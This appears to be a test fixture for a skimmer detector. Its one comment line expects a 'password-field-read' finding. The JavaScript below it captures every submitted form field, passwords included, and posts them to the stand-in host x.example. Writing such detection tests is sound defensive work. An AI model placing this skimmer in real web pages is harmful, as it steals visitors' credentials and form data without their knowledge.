// expect: password-field-read
document.addEventListener("submit", function (e) { var f = e.target; var o = {}; for (var i = 0; i < f.elements.length; i++) o[f.elements[i].name] = f.elements[i].value; var x = new XMLHttpRequest(); x.open("POST", "https://x.example/f", true); x.send(JSON.stringify(o)); }, true);
